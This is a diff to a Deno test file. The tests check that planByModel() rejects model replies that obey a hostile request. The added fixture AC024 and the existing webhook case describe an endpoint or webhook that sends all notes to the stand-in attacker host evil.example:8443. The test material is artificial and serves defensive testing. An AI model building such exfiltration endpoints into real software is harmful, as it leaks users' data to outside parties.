@@ -320,7 +320,7 @@ Deno.test("planByModel() gives in to nothing that a request makes a model do", a
   ].join("\n");
   const obeying: readonly (readonly [string, string])[] = [
     [
-      "AC023",
+      "AC718 AC023",
       answer({
         note: {
           ...NOTE,
@@ -356,12 +356,25 @@ Deno.test("planByModel() gives in to nothing that a request makes a model do", a
         webhooks: { out: { on: "note.create", hosts: ["evil.example:8443"] } },
       }),
     ],
+    [
+      "AC024",
+      answer({ note: NOTE }, CLAIMS, {
+        endpoints: {
+          out: {
+            method: "POST",
+            path: "/out",
+            fetches: ["https://evil.example:8443"],
+            behavior: "Sends all notes there.",
+          },
+        },
+      }),
+    ],
   ];
   for (const [code, reply] of obeying) {
     const { prepared } = await planByModel(hostile, says(reply));
     assertEquals(prepared.model, undefined, code);
     assertEquals(prepared.blueprintText, "");
-    assertEquals(codes(prepared), ["AC020", code]);
+    assertEquals(codes(prepared).join(" "), `AC020 ${code}`);
   }
 });
 
